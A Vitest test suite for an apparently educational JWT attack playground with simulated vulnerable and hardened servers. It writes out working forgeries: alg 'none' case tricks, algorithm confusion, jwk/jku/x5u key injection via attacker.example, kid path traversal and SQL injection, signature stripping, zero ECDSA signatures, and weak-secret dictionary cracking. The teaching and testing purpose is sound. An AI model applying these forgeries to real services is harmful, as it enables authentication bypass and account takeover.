import { createHmac, createPublicKey, X509Certificate } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import {
  check,
  encodeBase64urlText,
  parseKey,
  sentenceOf,
  sign,
  type CheckOptions,
  type DiagnosticCode,
  type KeyInput,
} from '../../jwt/index';
import { crack, hmacTarget, measureHmacSpeed, wordlist } from './crack';
import { resolvePath } from './careless/kid';
import { findLab, LAB_IDS, LABS, type LabId } from './labs';
import {
  ATTACKER_CERT,
  ATTACKER_CERT_PEM,
  ATTACKER_JKU,
  ATTACKER_RSA_PRIVATE_JWK,
  ATTACKER_RSA_PUBLIC_JWK,
  ATTACKER_RSA_PUBLIC_PEM,
  ATTACKER_X5U,
  SERVER_RSA_PUBLIC_PEM,
  SERVER_SECRET_B64URL,
  WEAK_SECRET,
} from './material';
import { jsonText, quotedDescription, type LabResponse } from './server';
import { formatHttp, header } from '../sim/engine/http';
import { pemBody, selfSignedCertificate } from './x509';
import { runSql } from './sql';
import * as tokens from './tokens';

const NOW = 1767225600; // 2026-01-01T00:00:00Z, the vectors' "now"
const ADMIN = '{"sub":"user-42","name":"Student","role":"admin","iat":1767225000,"exp":4102444800}';

interface TrickyVector {
  id: string;
  input: string;
  notes?: string[];
}
const tricky = JSON.parse(
  readFileSync(new URL('../../../test-data/vectors/tricky.json', import.meta.url), 'utf8'),
) as TrickyVector[];
const vector = (id: string): TrickyVector => tricky.find((v) => v.id === id)!;
const labKeys = JSON.parse(
  readFileSync(new URL('../../../test-data/vectors/lab-keys.json', import.meta.url), 'utf8'),
) as Record<string, Record<string, string>>;

async function keyOf(input: KeyInput) {
  const parsed = await parseKey(input);
  expect(parsed.diagnostics.filter((d) => d.severity === 'error')).toEqual([]);
  return parsed.keys[0]!;
}

/** What the playground's Sign mode does: sign exactly the header and payload text. */
async function signAs(headerText: string, payloadText: string, key: KeyInput | null) {
  const r = await sign({ headerText, payloadText, key: key ? await keyOf(key) : null });
  if (!r.ok) throw new Error(r.diagnostics.map(sentenceOf).join('; '));
  return r.token;
}

/** What editing a decoded pane in Verify mode does: replace one part, keep the rest. */
function editPart(token: string, index: 0 | 1 | 2, text: string): string {
  const parts = token.split('.');
  parts[index] = index === 2 ? text : encodeBase64urlText(text);
  return parts.join('.');
}

const attackerKey: KeyInput = { type: 'jwk', jwk: ATTACKER_RSA_PRIVATE_JWK };

interface Forgery {
  name: string;
  token: () => Promise<string>;
  /** The code the safe server refuses with. */
  safe: DiagnosticCode;
  /** The playground's own check (options as a student would set them) and a code it must show. */
  playground: { options: Omit<CheckOptions, 'now'>; code: DiagnosticCode };
}

const serverSecret: KeyInput = {
  type: 'secret',
  text: SERVER_SECRET_B64URL,
  encoding: 'base64url',
};

const FORGERIES: Record<LabId, Forgery[]> = {
  'unverified-signature': [
    {
      name: 'payload edited, signature kept',
      token: async () => editPart(tokens.TOKEN_HS256, 1, ADMIN),
      safe: 'signature-invalid',
      playground: { options: { key: serverSecret }, code: 'signature-invalid' },
    },
  ],
  'alg-none': [
    {
      name: '"nOnE", signature removed',
      token: async () =>
        editPart(editPart(tokens.TOKEN_HS256, 0, '{"alg":"nOnE","typ":"JWT"}'), 1, ADMIN).replace(
          /\.[^.]*$/,
          '.',
        ),
      safe: 'alg-none-case',
      playground: { options: {}, code: 'alg-none-case' },
    },
    {
      name: '"None" with the old signature left over',
      token: async () =>
        editPart(editPart(tokens.TOKEN_HS256, 0, '{"alg":"None","typ":"JWT"}'), 1, ADMIN),
      safe: 'alg-none-case',
      playground: { options: {}, code: 'alg-none-case' },
    },
  ],
  'weak-secret': [
    {
      name: 'cracked secret, admin token signed with it',
      token: async () => {
        const found = await crack(tokens.TOKEN_WEAK, wordlist(), { concurrency: 128 });
        expect(found.status).toBe('found');
        const secret = found.status === 'found' ? found.secret : '';
        return signAs('{"alg":"HS256","typ":"JWT"}', ADMIN, {
          type: 'secret',
          text: secret,
          encoding: 'utf8',
        });
      },
      safe: 'signature-invalid',
      playground: {
        options: { key: { type: 'secret', text: WEAK_SECRET, encoding: 'utf8' } },
        code: 'hmac-key-guessable',
      },
    },
  ],
  'alg-confusion': [
    {
      name: 'HS256 keyed with the server public PEM text',
      token: () =>
        signAs('{"alg":"HS256","typ":"JWT"}', ADMIN, {
          type: 'secret',
          text: SERVER_RSA_PUBLIC_PEM,
          encoding: 'utf8',
        }),
      safe: 'alg-not-allowed',
      playground: {
        options: { key: { type: 'text', text: SERVER_RSA_PUBLIC_PEM } },
        code: 'key-alg-mismatch',
      },
    },
  ],
  'jwk-header': [
    {
      name: 'attacker key embedded in "jwk"',
      token: () =>
        signAs(
          JSON.stringify({
            alg: 'RS256',
            typ: 'JWT',
            kid: 'attacker-rsa',
            jwk: ATTACKER_RSA_PUBLIC_JWK,
          }),
          ADMIN,
          attackerKey,
        ),
      safe: 'signature-invalid',
      playground: { options: {}, code: 'header-jwk' },
    },
  ],
  'jku-header': [
    {
      name: '"jku" to the attacker key set',
      token: () =>
        signAs(
          JSON.stringify({ alg: 'RS256', typ: 'JWT', kid: 'attacker-rsa', jku: ATTACKER_JKU }),
          ADMIN,
          attackerKey,
        ),
      safe: 'kid-not-found',
      playground: { options: {}, code: 'header-jku' },
    },
    {
      name: '"x5u" to the attacker certificate',
      token: () =>
        signAs(JSON.stringify({ alg: 'RS256', typ: 'JWT', x5u: ATTACKER_X5U }), ADMIN, attackerKey),
      safe: 'signature-invalid',
      playground: { options: {}, code: 'header-x5u' },
    },
  ],
  'kid-path-traversal': [
    {
      name: 'kid → /dev/null, signed with AA== (one zero byte)',
      token: () =>
        signAs('{"alg":"HS256","typ":"JWT","kid":"../../../dev/null"}', ADMIN, {
          type: 'secret',
          text: 'AA==',
          encoding: 'base64',
        }),
      safe: 'kid-not-found',
      playground: { options: {}, code: 'header-kid-suspicious' },
    },
  ],
  'kid-sql-injection': [
    {
      name: "kid = x' UNION SELECT 'attacker-key",
      token: () =>
        signAs(
          JSON.stringify({ alg: 'HS256', typ: 'JWT', kid: "x' UNION SELECT 'attacker-key" }),
          ADMIN,
          { type: 'secret', text: 'attacker-key', encoding: 'utf8' },
        ),
      safe: 'kid-not-found',
      playground: { options: {}, code: 'header-kid-suspicious' },
    },
  ],
  'missing-claims': [
    {
      name: 'admin token minted for the wiki',
      token: async () => tokens.SSO_TOKENS.wiki,
      safe: 'aud-mismatch',
      playground: {
        options: { key: { type: 'text', text: SERVER_RSA_PUBLIC_PEM } },
        code: 'aud-unchecked',
      },
    },
    {
      name: 'expired admin token from a log',
      token: async () => tokens.SSO_TOKENS.expired,
      safe: 'expired',
      playground: {
        options: { key: { type: 'text', text: SERVER_RSA_PUBLIC_PEM } },
        code: 'expired',
      },
    },
    {
      name: 'admin token without exp',
      token: async () => tokens.SSO_TOKENS.noExp,
      safe: 'exp-missing',
      playground: {
        options: { key: { type: 'text', text: SERVER_RSA_PUBLIC_PEM } },
        code: 'exp-missing',
      },
    },
  ],
  'empty-secret': [
    {
      name: 'admin token signed with 0x00, the empty key padded',
      token: () =>
        signAs('{"alg":"HS256","typ":"JWT"}', ADMIN, {
          type: 'secret',
          text: '00',
          encoding: 'hex',
        }),
      safe: 'signature-invalid',
      playground: {
        options: { key: { type: 'secret', text: '00', encoding: 'hex' } },
        code: 'hmac-key-guessable',
      },
    },
  ],
  'signature-stripping': [
    {
      name: 'payload edited, signature removed, the dot kept',
      token: async () => editPart(tokens.TOKEN_HS256, 1, ADMIN).replace(/\.[^.]*$/, '.'),
      safe: 'signature-invalid',
      playground: { options: { key: serverSecret }, code: 'signature-empty' },
    },
  ],
  'psychic-signature': [
    {
      name: 'ES256 with r = s = 0',
      token: async () => editPart(editPart(tokens.TOKEN_ES256, 1, ADMIN), 2, 'A'.repeat(86)),
      safe: 'signature-invalid',
      playground: {
        options: { key: { type: 'jwk', jwk: labKeys.server_p256! } },
        code: 'signature-invalid',
      },
    },
  ],
};

function send(id: LabId, token: string, mode: 'careless' | 'safe'): Promise<LabResponse> {
  return findLab(id)!.server.send(token, mode, NOW);
}

describe('every lab', () => {
  it('has a forgery in this test', () => {
    expect(Object.keys(FORGERIES).sort()).toEqual([...LAB_IDS].sort());
    expect(LABS.map((l) => l.id)).toEqual([...LAB_IDS]);
  });

  it.each(LABS.map((l) => [l.id] as const))(
    '%s: the starting token is a real user token (403 on both servers where the key is the same)',
    async (id) => {
      const lab = findLab(id)!;
      const careless = await lab.server.send(lab.start.token, 'careless', NOW);
      expect(careless.status).toBe(403);
      if (id !== 'weak-secret' && id !== 'empty-secret') {
        // The weak- and empty-secret servers have a strong key in their safe setting.
        expect((await lab.server.send(lab.start.token, 'safe', NOW)).status).toBe(403);
      }
    },
  );
});

describe.each(
  Object.entries(FORGERIES).flatMap(([id, fs]) => fs.map((f) => [id, f.name, f] as const)),
)('%s: %s', (id, _name, forgery) => {
  // Forged once per case (the weak-secret one runs the dictionary attack), as a student would.
  let forged: Promise<string> | null = null;
  const forge = (): Promise<string> => (forged ??= forgery.token());

  it('is accepted by the careless server and refused by the safe one with the strict code', async () => {
    const token = await forge();
    const careless = await send(id as LabId, token, 'careless');
    expect(careless.log.join('\n')).toBeTruthy();
    expect({ status: careless.status, refusal: careless.refusal }).toEqual({
      status: 200,
      refusal: null,
    });
    const safe = await send(id as LabId, token, 'safe');
    expect(safe.status).toBe(401);
    expect(safe.refusal?.kind).toBe('diagnostic');
    if (safe.refusal?.kind === 'diagnostic') {
      expect(safe.refusal.diagnostic.code).toBe(forgery.safe);
      expect(sentenceOf(safe.refusal.diagnostic).length).toBeGreaterThan(10);
    }
  }, 30_000);

  it("is flagged by the playground's own verifier", async () => {
    const token = await forge();
    const result = await check(token, { ...forgery.playground.options, now: NOW });
    expect(result.diagnostics.map((d) => d.code)).toContain(forgery.playground.code);
    expect(result.verdict).not.toBe('valid');
  });
});

describe('careless servers refuse what even they cannot accept', () => {
  it('a payload edit without a trick fails the signature on the alg-none server', async () => {
    const r = await send('alg-none', editPart(tokens.TOKEN_HS256, 1, ADMIN), 'careless');
    expect(r.status).toBe(401);
    expect(r.refusal).toMatchObject({ kind: 'careless', reason: 'signature' });
  });
  it('an unknown jku host is a network error', async () => {
    const t = await signAs(
      JSON.stringify({ alg: 'RS256', kid: 'attacker-rsa', jku: 'https://nowhere.example/x' }),
      ADMIN,
      attackerKey,
    );
    expect((await send('jku-header', t, 'careless')).refusal).toMatchObject({
      reason: 'fetch-failed',
    });
  });
  it('a kid naming no file is ENOENT', async () => {
    const t = editPart(tokens.TOKEN_KID_FILE, 0, '{"alg":"HS256","kid":"nope"}');
    expect((await send('kid-path-traversal', t, 'careless')).refusal).toMatchObject({
      reason: 'file-not-found',
      params: { path: '/srv/keys/nope' },
    });
  });
  it('a broken SQL injection is an SQL error', async () => {
    const t = editPart(tokens.TOKEN_KID_SQL, 0, `{"alg":"HS256","kid":"x' OR"}`);
    expect((await send('kid-sql-injection', t, 'careless')).refusal).toMatchObject({
      reason: 'sql-error',
    });
  });
  it('a tampered ES256 signature that is not all zeros still fails', async () => {
    const t = editPart(editPart(tokens.TOKEN_ES256, 1, ADMIN), 2, 'A'.repeat(84) + 'BA');
    expect((await send('psychic-signature', t, 'careless')).status).toBe(401);
  });
  it('the missing-claims server still checks the signature', async () => {
    const t = editPart(tokens.SSO_TOKENS.own, 1, ADMIN);
    expect((await send('missing-claims', t, 'careless')).status).toBe(401);
  });
});

describe('the lab tokens', () => {
  it('are what sign() makes from the lab keys (deterministic algorithms)', async () => {
    const P = '{"sub":"user-42","name":"Student","role":"user","iat":1767225000,"exp":4102444800}';
    const rsa: KeyInput = { type: 'jwk', jwk: labKeys.server_rsa! };
    expect(await signAs('{"alg":"RS256","typ":"JWT"}', P, rsa)).toBe(tokens.TOKEN_RS256);
    expect(await signAs('{"alg":"RS256","typ":"JWT","kid":"server-rsa-1"}', P, rsa)).toBe(
      tokens.TOKEN_RS256_KID,
    );
    expect(
      await signAs('{"alg":"HS256","typ":"JWT"}', P, {
        type: 'secret',
        text: 'secret1',
        encoding: 'utf8',
      }),
    ).toBe(tokens.TOKEN_WEAK);
    expect(tokens.TOKEN_HS256).toBe(vector('baseline-hs256-valid').input);
  });
  it('the ES256 token verifies with the server P-256 key', async () => {
    const r = await check(tokens.TOKEN_ES256, {
      key: { type: 'jwk', jwk: labKeys.server_p256! },
      now: NOW,
    });
    expect(r.signature).toBe('valid');
  });
  it('the server PEM is the exact text of the vectors, trailing newline included', () => {
    const note = vector('attack-alg-confusion-rs256-pubkey-as-hmac').notes![0]!;
    expect(JSON.parse(note.slice(note.indexOf(': ') + 2))).toBe(SERVER_RSA_PUBLIC_PEM);
    expect(SERVER_RSA_PUBLIC_PEM.endsWith('-----\n')).toBe(true);
  });
  it('the alg-confusion forgery equals the tricky.json vector', async () => {
    const P = '{"sub":"user-42","name":"Student","role":"admin","iat":1767225000,"exp":4102444800}';
    const t = await signAs('{"alg":"HS256","typ":"JWT"}', P, {
      type: 'secret',
      text: SERVER_RSA_PUBLIC_PEM,
      encoding: 'utf8',
    });
    expect(t).toBe(vector('attack-alg-confusion-rs256-pubkey-as-hmac').input);
  });
  it('the tricky.json /dev/null, jku, jwk and psychic vectors get in through the careless servers', async () => {
    const cases: [LabId, string][] = [
      ['kid-path-traversal', 'attack-kid-path-traversal-devnull'],
      ['jku-header', 'attack-jku-header-injection'],
      ['jwk-header', 'attack-jwk-header-embedded-key'],
      ['psychic-signature', 'attack-psychic-signature-es256-r0-s0'],
      ['alg-none', 'attack-alg-nOnE-case-variant'],
    ];
    for (const [lab, id] of cases) {
      const v = tricky.find((x) => x.id === id);
      if (!v) continue; // nOnE is documented in the curriculum but not every vector file has it
      expect((await send(lab, v.input, 'careless')).status, id).toBe(200);
      expect((await send(lab, v.input, 'safe')).status, id).toBe(401);
    }
  });
});

describe('the dictionary attack', () => {
  it('finds "secret" for the weak-secret-hs256-secret vector', async () => {
    const input = vector('weak-secret-hs256-secret').input;
    expect(input).toBe(
      'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ1c2VyLTQyIiwibmFtZSI6IlN0dWRlbnQiLCJyb2xlIjoidXNlciIsImlhdCI6MTc2NzIyNTAwMCwiZXhwIjo0MTAyNDQ0ODAwfQ.lxeUPM0LMsA_wEXutHirFG28lG7xXavrP1r6gjFRJIA',
    );
    const progress: number[] = [];
    const r = await crack(input, wordlist(), {
      onProgress: (p) => progress.push(p.tried),
      progressEveryMs: 50,
    });
    expect(r).toMatchObject({ status: 'found', secret: 'secret' });
    expect(progress.length).toBeGreaterThan(0);
    expect(progress).toEqual([...progress].sort((a, b) => a - b));
  }, 30_000);

  it('has thousands of candidates, "secret" and "secret1" among them but not first', () => {
    const list = wordlist();
    expect(list.length).toBeGreaterThan(20_000);
    expect(new Set(list).size).toBe(list.length);
    expect(list.indexOf('secret')).toBeGreaterThan(5_000);
    expect(list.indexOf('secret1')).toBeGreaterThan(list.indexOf('secret'));
    for (const w of ['Secret', 'SECRET', '53cr37', 'secret!', 'secret2024', 'password1'])
      expect(list).toContain(w);
  });

  it('stops when asked', async () => {
    const signal = { aborted: false };
    const r = await crack(tokens.TOKEN_HS256, wordlist(), {
      signal,
      progressEveryMs: 0,
      onProgress: () => {
        signal.aborted = true;
      },
    });
    expect(r.status).toBe('stopped');
  });

  it('says so when the token is not HMAC', async () => {
    expect(await crack(tokens.TOKEN_RS256, ['a'])).toEqual({ status: 'not-hmac', alg: 'RS256' });
    expect(hmacTarget('not a token')).toEqual({ ok: false, alg: null });
  });

  it('measures raw HMAC speed, sequential and pipelined', async () => {
    // The figures, not the machine's speed: a busy machine may manage only a few signatures.
    const r = await measureHmacSpeed(100);
    expect(r.signatures).toBeGreaterThan(0);
    expect(r.elapsedMs).toBeGreaterThanOrEqual(100);
    expect(r.perSecond).toBe(Math.round((r.signatures * 1000) / r.elapsedMs));
    expect(r.pipelinedPerSecond).toBeGreaterThan(0);
  });

  /** A compact HMAC token over ADMIN signed with node's own HMAC (an independent implementation). */
  const hmacToken = (alg: 'HS256' | 'HS384' | 'HS512', secret: string, extra?: Buffer): string => {
    const input = `${encodeBase64urlText(`{"alg":"${alg}","typ":"JWT"}`)}.${encodeBase64urlText(ADMIN)}`;
    const mac = createHmac(`sha${alg.slice(2)}`, Buffer.from(secret, 'utf8'))
      .update(input)
      .digest();
    return `${input}.${Buffer.concat([mac, extra ?? Buffer.alloc(0)]).toString('base64url')}`;
  };
  const words = ['', 'admin', 'pässwörd', '비밀번호', 'key🔑', 'Secret', 'secret', 'zzz'];

  it.each(['hkdf', 'import-verify'] as const)(
    'finds the same secrets with either method (%s), whatever the hash and the script',
    async (method) => {
      for (const [alg, secret] of [
        ['HS256', 'secret'],
        ['HS384', '비밀번호'],
        ['HS512', 'key🔑'],
        ['HS256', 'pässwörd'],
      ] as const) {
        const r = await crack(hmacToken(alg, secret), words, { method, concurrency: 3 });
        expect(r, `${alg} ${secret}`).toMatchObject({ status: 'found', secret });
      }
      const miss = await crack(hmacToken('HS256', 'not-in-list'), words, { method });
      expect(miss).toMatchObject({ status: 'exhausted', tried: words.length });
    },
  );

  it('reports a secret only if the signature verifies with it in full', async () => {
    // The HMAC of "secret" followed by a zero byte: as an HMAC key it hashes like the MAC itself,
    // so the one-call test matches; the final verify (length and bytes) must refuse it.
    const padded = hmacToken('HS256', 'secret', Buffer.from([0]));
    expect(await crack(padded, words)).toMatchObject({ status: 'exhausted' });
    expect(await crack(padded, words, { method: 'import-verify' })).toMatchObject({
      status: 'exhausted',
    });
  });
});

describe('the simulated back ends', () => {
  it.each([
    ['/srv/keys/../../../dev/null', '/dev/null'],
    ['/srv/keys/../../../../../../../dev/null', '/dev/null'],
    ['/srv/keys/./key-2025', '/srv/keys/key-2025'],
    ['/srv/keys//key-2025', '/srv/keys/key-2025'],
  ])('resolves %s to %s', (path, real) => {
    expect(resolvePath(path)).toBe(real);
  });

  const table = [
    { kid: 'a', key: 'KA' },
    { kid: 'b', key: 'KB' },
  ];
  it.each([
    ["SELECT key FROM keys WHERE kid = 'a'", { ok: true, rows: ['KA'] }],
    ["SELECT key FROM keys WHERE kid = 'zz'", { ok: true, rows: [] }],
    ["SELECT key FROM keys WHERE kid = 'x' UNION SELECT 'evil'", { ok: true, rows: ['evil'] }],
    ["SELECT key FROM keys WHERE kid = 'x' OR '1'='1'", { ok: true, rows: ['KA', 'KB'] }],
    ["SELECT key FROM keys WHERE kid = 'x' OR 1=1 -- '", { ok: true, rows: ['KA', 'KB'] }],
    ["SELECT key FROM keys WHERE kid = 'it''s'", { ok: true, rows: [] }],
    ["SELECT key FROM keys WHERE kid = 'x' UNION SELECT 'x' FROM keys", { ok: true, rows: ['x'] }],
    [
      "SELECT key FROM keys WHERE kid = 'x' UNION ALL SELECT 'x' FROM keys",
      { ok: true, rows: ['x', 'x'] },
    ],
    [
      "SELECT key FROM keys WHERE kid = 'x' UNION SELECT key FROM keys WHERE kid = 'b'",
      { ok: true, rows: ['KB'] },
    ],
    ["SELECT key FROM keys WHERE kid = 'x' OR 1=1 LIMIT 1", { ok: true, rows: ['KA'] }],
    [
      "SELECT key FROM keys WHERE kid = 'x' OR 1=1 ORDER BY 1 DESC",
      { ok: true, rows: ['KB', 'KA'] },
    ],
    ["SELECT key FROM keys WHERE kid = 'a' AND key = 'KA'", { ok: true, rows: ['KA'] }],
    ["SELECT key FROM keys WHERE kid = '' OR NOT kid = 'a'", { ok: true, rows: ['KB'] }],
    ["SELECT key FROM keys WHERE kid = '' OR (kid <> 'a')", { ok: true, rows: ['KB'] }],
    ["SELECT key FROM keys WHERE kid = 'x' UNION SELECT 'evil';", { ok: true, rows: ['evil'] }],
    ["SELECT key FROM keys WHERE kid = 'x' UNION SELECT NULL", { ok: true, rows: [] }],
  ])('runs %s', (sql, expected) => {
    expect(runSql(sql, table)).toEqual(expected);
  });
  it.each([
    "SELECT key FROM keys WHERE kid = 'x' OR'",
    "SELECT key FROM keys WHERE kid = 'x' DROP TABLE keys",
    "SELECT key FROM keys WHERE kid = ''x'",
    "SELECT key FROM keys WHERE kid = 'x' UNION SELECT *",
    "SELECT key FROM keys WHERE kid = 'x' UNION SELECT 'a', 'b'",
    "SELECT key FROM keys WHERE kid = 'x' UNION SELECT kid",
    "SELECT key FROM keys WHERE kid = 'x' UNION SELECT 'a' FROM users",
  ])('reports a syntax error for %s', (sql) => {
    expect(runSql(sql, table).ok).toBe(false);
  });
});

describe('the x5u certificate', () => {
  const x5uToken = () =>
    signAs(JSON.stringify({ alg: 'RS256', typ: 'JWT', x5u: ATTACKER_X5U }), ADMIN, attackerKey);

  it("parses as X.509 v3: self-signed for attacker.example, with the attacker's key", () => {
    const cert = new X509Certificate(ATTACKER_CERT_PEM);
    expect(cert.subject).toBe('CN=attacker.example');
    expect(cert.issuer).toBe(cert.subject);
    expect(cert.subjectAltName).toBe('DNS:attacker.example');
    expect(cert.ca).toBe(false);
    expect(cert.serialNumber.toLowerCase()).toBe(ATTACKER_CERT.serial);
    expect(new Date(cert.validFrom).getTime() / 1000).toBe(ATTACKER_CERT.notBefore);
    expect(new Date(cert.validTo).getTime() / 1000).toBe(ATTACKER_CERT.notAfter);
    // Its signature verifies with its own key (self-signed) and not with another.
    expect(cert.verify(cert.publicKey)).toBe(true);
    expect(cert.verify(createPublicKey(SERVER_RSA_PUBLIC_PEM))).toBe(false);
    expect(cert.publicKey.export({ format: 'jwk' })).toMatchObject({
      kty: 'RSA',
      n: ATTACKER_RSA_PUBLIC_JWK.n,
      e: 'AQAB',
    });
  });

  it('is what x509.ts builds with WebCrypto (deterministic PKCS#1 v1.5)', async () => {
    const pem = await selfSignedCertificate({
      commonName: ATTACKER_CERT.commonName,
      spki: pemBody(ATTACKER_RSA_PUBLIC_PEM),
      privateJwk: ATTACKER_RSA_PRIVATE_JWK,
      serial: Uint8Array.from(Buffer.from(ATTACKER_CERT.serial, 'hex')),
      notBefore: ATTACKER_CERT.notBefore,
      notAfter: ATTACKER_CERT.notAfter,
    });
    expect(pem).toBe(ATTACKER_CERT_PEM);
    expect(pem.split('\n').every((line) => line.length <= 64)).toBe(true);
  });

  it('its key, read by the core as a vulnerable server would, verifies the lab token', async () => {
    const parsed = await parseKey({ type: 'text', text: ATTACKER_CERT_PEM });
    expect(parsed.format).toBe('pem-x509');
    expect(parsed.keys[0]!.publicJwk).toMatchObject({ n: ATTACKER_RSA_PUBLIC_JWK.n });
    const token = await x5uToken();
    const r = await check(token, { key: { type: 'text', text: ATTACKER_CERT_PEM }, now: NOW });
    expect(r.signature).toBe('valid');
    const careless = await send('jku-header', token, 'careless');
    expect(careless.status).toBe(200);
    expect(careless.log.join('\n')).toContain(
      'X.509 certificate, subject = issuer = CN=attacker.example',
    );
    expect(careless.log.join('\n')).not.toContain('kid null');
  });

  it('a token signed by another key fails against the certificate', async () => {
    const t = await signAs(JSON.stringify({ alg: 'RS256', x5u: ATTACKER_X5U }), ADMIN, {
      type: 'jwk',
      jwk: labKeys.server_rsa!,
    });
    expect((await send('jku-header', t, 'careless')).status).toBe(401);
  });
});

describe('the lab servers speak HTTP', () => {
  const cases: [LabId, string, 'careless' | 'safe'][] = LABS.flatMap((l) => [
    [l.id, l.start.token, 'careless'],
    [l.id, l.start.token, 'safe'],
    [l.id, editPart(l.start.token, 1, ADMIN), 'careless'],
    [l.id, editPart(l.start.token, 1, ADMIN), 'safe'],
  ]);
  it.each(cases)('%s: %s (%s) gets a full reply', async (id, token, mode) => {
    const r = await send(id, token, mode);
    const text = formatHttp(r.http);
    expect(text.startsWith(`HTTP/1.1 ${r.status} `)).toBe(true);
    expect(r.http.status).toBe(r.status);
    expect(header(r.http, 'Date')).toBe('Thu, 01 Jan 2026 00:00:00 GMT');
    expect(header(r.http, 'Content-Type')).toBe('application/json');
    const body = JSON.parse(r.http.body!) as Record<string, unknown>;
    expect(Number(header(r.http, 'Content-Length'))).toBe(
      new TextEncoder().encode(r.http.body).length,
    );
    if (r.status === 401) {
      const challenge = header(r.http, 'WWW-Authenticate')!;
      expect(challenge).toMatch(
        /^Bearer realm="api\.example\.com", error="invalid_token", error_description="[\x20\x21\x23-\x5b\x5d-\x7e]+"$/,
      );
      expect(body.error).toBe('invalid_token');
    } else if (r.status === 403) {
      expect(header(r.http, 'WWW-Authenticate')).toContain('error="insufficient_scope"');
      expect(body).toMatchObject({ error: 'insufficient_scope', sub: 'user-42' });
    } else {
      expect(body).toMatchObject({ page: 'admin' });
    }
    expect(formatHttp(r.request)).toContain(`Authorization: Bearer ${token}`);
  });

  it('names the deciding finding in the log, never "verdict warning" on a 401', async () => {
    const r = await send('missing-claims', tokens.SSO_TOKENS.noExp, 'safe');
    expect(r.status).toBe(401);
    const log = r.log.join('\n');
    expect(log).not.toContain('verdict');
    expect(log).toContain('exp-missing (warning in the core; this server refuses it)');
  });

  it('keeps error_description to the characters RFC 6750 allows', () => {
    expect(quotedDescription('say "hi" \\ 비밀 ok')).toBe("say 'hi' ok");
  });

  it('answers a token whose sub, role and alg are objects without a prototype', async () => {
    const odd = editPart(
      editPart(tokens.TOKEN_HS256, 0, '{"alg":{"__proto__":null,"x":1}}'),
      1,
      '{"sub":{"__proto__":null,"a":1},"role":{"r":1}}',
    );
    for (const lab of LABS) {
      for (const mode of ['careless', 'safe'] as const) {
        const r = await send(lab.id, odd, mode);
        expect([401, 403]).toContain(r.status);
        expect(() => formatHttp(r.http)).not.toThrow();
        expect(r.log.join('\n').length).toBeGreaterThan(0);
      }
    }
    // What the core's JSON parser makes: objects without a prototype, which String() cannot print.
    const bare = Object.assign(Object.create(null) as Record<string, unknown>, { a: 1 });
    expect(() => String(bare)).toThrow(TypeError);
    expect(jsonText(bare)).toBe('{"a":1}');
    expect(jsonText('user-42')).toBe('user-42');
    const through = await send('unverified-signature', odd, 'careless');
    expect(through.status).toBe(403);
    expect(JSON.parse(through.http.body!)).toMatchObject({ sub: { a: 1 } });
  });
});

describe('lab 2: the careless filter', () => {
  it('refuses plain "none" but lets "None" and "nOnE" through', async () => {
    const as = (alg: string) =>
      editPart(editPart(tokens.TOKEN_HS256, 0, JSON.stringify({ alg, typ: 'JWT' })), 1, ADMIN);
    const plain = await send('alg-none', as('none'), 'careless');
    expect(plain.status).toBe(401);
    expect(plain.refusal).toMatchObject({ kind: 'careless', reason: 'alg-blocked' });
    expect((await send('alg-none', as('None'), 'careless')).status).toBe(200);
    expect((await send('alg-none', as('NONE'), 'careless')).status).toBe(200);
    expect((await send('alg-none', as('hs256'), 'careless')).status).toBe(401);
  });
});

describe('the empty-secret and signature-stripping servers', () => {
  it('the empty-secret token is HMAC with the empty key, which equals the key 0x00', () => {
    const [h, p] = tokens.TOKEN_EMPTY_KEY.split('.');
    const input = `${h}.${p}`;
    const empty = createHmac('sha256', Buffer.alloc(0)).update(input).digest('base64url');
    const zero = createHmac('sha256', Buffer.alloc(1)).update(input).digest('base64url');
    expect(tokens.TOKEN_EMPTY_KEY).toBe(`${input}.${empty}`);
    expect(zero).toBe(empty);
  });
  it('the empty-secret server refuses a token signed with another key', async () => {
    expect((await send('empty-secret', tokens.TOKEN_HS256, 'careless')).status).toBe(401);
  });
  it('the stripping server compares only the bytes sent: a prefix passes, one wrong byte fails', async () => {
    const forged = await signAs('{"alg":"HS256","typ":"JWT"}', ADMIN, serverSecret);
    const [h, p, sig] = forged.split('.') as [string, string, string];
    const bytes = Buffer.from(sig, 'base64url');
    const prefix = `${h}.${p}.${bytes.subarray(0, 3).toString('base64url')}`;
    expect((await send('signature-stripping', prefix, 'careless')).status).toBe(200);
    const wrong = Buffer.from(bytes);
    wrong[0] = wrong[0]! ^ 1;
    const bad = `${h}.${p}.${wrong.subarray(0, 3).toString('base64url')}`;
    expect((await send('signature-stripping', bad, 'careless')).status).toBe(401);
    const longer = `${h}.${p}.${Buffer.concat([bytes, Buffer.alloc(1)]).toString('base64url')}`;
    expect((await send('signature-stripping', longer, 'careless')).status).toBe(401);
    const stripped = await send('signature-stripping', `${h}.${p}.`, 'careless');
    expect(stripped.log.join('\n')).toContain('sent.length = 0');
  });
});
